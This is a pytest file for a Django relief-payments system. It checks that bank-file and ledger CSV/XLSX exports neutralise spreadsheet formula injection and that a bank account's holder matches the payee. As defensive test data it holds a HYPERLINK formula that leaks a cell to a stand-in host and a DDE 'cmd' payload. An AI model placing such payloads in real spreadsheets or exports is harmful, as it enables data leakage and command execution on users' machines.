"""Formula injection (relief/tabular/writing.py): no tabular file Relief writes carries text a
spreadsheet program would run (= + - @ tab CR: prefixed with '), while amounts stay numbers; and
a proposed account's holder must be the payee."""

import io
from decimal import Decimal

import pytest
from django.core.exceptions import ValidationError
from django.urls import reverse
from openpyxl import load_workbook

from cases.models import Town
from payments import accounts
from payments.bankfiles import bank_file_export
from payments.models import BankFileLayout, PaymentLine
from relief import tabular
from tests.cases.test_import import read as read_template
from tests.factories import approved_grant
from tests.payments.bank_helpers import batch_of, line, paying_grants, read_csv
from tests.payments.test_api_batches import post, propose_body
from tests.payments.test_views_accounts import propose as propose_through_page
from tests.payments.test_views_ledger import grant as ledger_grant  # noqa: F401 (fixture)

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://example.com/?leak="&A1,"点击领取")'
EVERY_LAYOUT_FIELD = [
    {"header": "序号", "field": "seq"},
    {"header": "户名", "field": "account_holder"},
    {"header": "账号", "field": "account_number"},
    {"header": "金额", "field": "amount"},
    {"header": "身份证号", "field": "id_number"},
    {"header": "摘要", "field": "memo"},
    {"header": "开户行", "field": "bank_name"},
    {"header": "镇街", "field": "town"},
    {"header": "期间", "field": "period"},
]


# The one helper ---------------------------------------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_starting_like_a_formula_gets_an_apostrophe(start):
    assert tabular.safe_cell(start + "1+1") == "'" + start + "1+1"


@pytest.mark.parametrize("value", ["-1+1", "-150.00)", "-1,45,0.00", "+1e3", "-2-3", "-150.00\n"])
def test_text_that_only_starts_like_a_number_still_gets_an_apostrophe(value):
    assert tabular.safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    [
        Decimal("-480.00"),
        -3,
        1.5,
        None,
        "",
        "陈大文",
        "a=b",
        "'=already",
        "１+1",
        # Amounts formatted as text for a CSV are numbers to a spreadsheet, not formulas.
        "-150.00",
        "-1,450.00",
        "+12",
    ],
)
def test_numbers_and_harmless_text_pass_unchanged(value):
    assert tabular.safe_cell(value) == value


def test_the_csv_writer_neutralises_text_and_leaves_amounts_alone():
    out = io.StringIO(newline="")

    tabular.CsvWriter(out, lineterminator="\n").writerow(["=1+1", Decimal("-480.00"), "-x"])

    assert out.getvalue() == "'=1+1,-480.00,'-x\n"


def test_the_import_templates_are_written_through_the_helper():
    columns = [tabular.Column("=a", tabular.text())]

    table = read_template(tabular.template_csv(columns, [{"=a": "@b"}]))

    assert (table.header, table.rows) == (["'=a"], [(2, ["'@b"])])


# Bank files -------------------------------------------------------------------------------------


@pytest.fixture
def poisoned_batch():
    """A batch whose payee is registered as a formula, paid into a bank named like one, with a
    deduction netted into the row, in a town named like one (an administrator's typo)."""
    batch = batch_of()
    [(grant, account)] = paying_grants(1)
    account.payee.name = LINK
    account.payee.save()
    account.account_holder = LINK
    account.bank_name = "@SUM(1+1)*cmd|' /C calc'!A0"
    account.save()
    line(batch, grant, account, seq=1, amount="1600.00")
    line(batch, grant, account, seq=1, amount="-480.00", kind=PaymentLine.Kind.DEDUCTION)
    Town.objects.filter(pk=batch.town_id).update(name="+茶山")
    batch.refresh_from_db()
    layout = BankFileLayout.objects.create(name="all", columns=EVERY_LAYOUT_FIELD)
    return batch, layout


def export(finance, batch, layout, fmt):
    _name, chunks, _file = bank_file_export(actor=finance, batch=batch, fmt=fmt, layout=layout)
    return b"".join(chunks)


def test_the_bank_csv_carries_no_live_formula(finance, poisoned_batch):
    batch, layout = poisoned_batch

    rows = read_csv(export(finance, batch, layout, "csv"))

    holder, bank, town = rows[1][1], rows[1][6], rows[1][7]
    assert holder == "'" + LINK
    assert bank == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert town == "'+茶山"
    assert rows[1][3] == "1120.00"
    assert rows[-1][:3] == ["合计", "1", "1120.00"]


def test_the_bank_workbook_writes_text_cells_and_numeric_amounts(finance, poisoned_batch):
    batch, layout = poisoned_batch

    sheet = load_workbook(io.BytesIO(export(finance, batch, layout, "xlsx"))).worksheets[0]

    holder, amount, bank, town = sheet["B2"], sheet["D2"], sheet["G2"], sheet["H2"]
    assert (holder.data_type, holder.value) == ("s", "'" + LINK)
    assert (bank.data_type, town.value) == ("s", "'+茶山")
    assert (amount.data_type, amount.value) == ("n", pytest.approx(1120.0))
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


def test_a_layout_header_that_starts_like_a_formula_is_refused(finance, poisoned_batch):
    batch, _layout = poisoned_batch
    layout = BankFileLayout.objects.create(
        name="bad", columns=[{"header": "=序号", "field": "seq"}, *EVERY_LAYOUT_FIELD[1:4]]
    )

    with pytest.raises(ValidationError, match="a header may not start with"):
        export(finance, batch, layout, "csv")


# The ledger totals -----------------------------------------------------------------------------


def test_the_ledger_csv_neutralises_text_and_keeps_negative_amounts(
    client,
    auditor,
    ledger_grant,  # noqa: F811
):
    Town.objects.filter(pk=ledger_grant.town_id).update(name="=茶山")
    client.force_login(auditor)

    response = client.get(
        reverse("payments:city-totals-csv"), {"start": "2024-03", "end": "2024-03"}
    )

    [row] = response.content.decode("utf-8-sig").splitlines()[1:]
    assert row == f'{ledger_grant.town.code},\'=茶山,2024-03,"1,450.00","1,600.00",0.00,-150.00'


# The account holder is the payee ----------------------------------------------------------------


@pytest.fixture
def grant():
    return approved_grant()


def head(grant):
    return grant.household.memberships.get(relation="head").person


def propose(actor, grant, holder):
    return accounts.payee_account_propose(
        actor=actor,
        grant=grant,
        payee=head(grant),
        bank_name="中国工商银行东莞分行",
        account_holder=holder,
        account_number="6222000011112222",
        reason="First account",
    )


def test_an_account_held_by_someone_else_is_refused_naming_the_field(worker_chashan, grant):
    with pytest.raises(ValidationError) as refused:
        propose(worker_chashan, grant, LINK)

    assert list(refused.value.message_dict) == ["account_holder"]
    assert "must be the payee" in refused.value.message_dict["account_holder"][0]


def test_the_holder_is_compared_after_nfkc_and_without_spaces(worker_chashan, grant):
    name = head(grant).name
    typed = "\u3000" + name[0] + " " + name[1:] + " "

    account = propose(worker_chashan, grant, typed)

    assert account.account_holder == name


def test_the_page_puts_the_refusal_on_the_holder_field(client, worker_chashan, grant):
    client.force_login(worker_chashan)

    response = propose_through_page(client, grant, account_holder="张三丰")

    assert response.status_code == 400
    assert "must be the payee" in str(response.context["propose_form"].errors["account_holder"])


def test_the_api_answers_400_naming_the_holder(worker_chashan, grant):
    response = post(
        worker_chashan, "/api/v1/payee-accounts/", propose_body(grant, account_holder=LINK)
    )

    assert response.status_code == 400
    assert list(response.json()) == ["account_holder"]
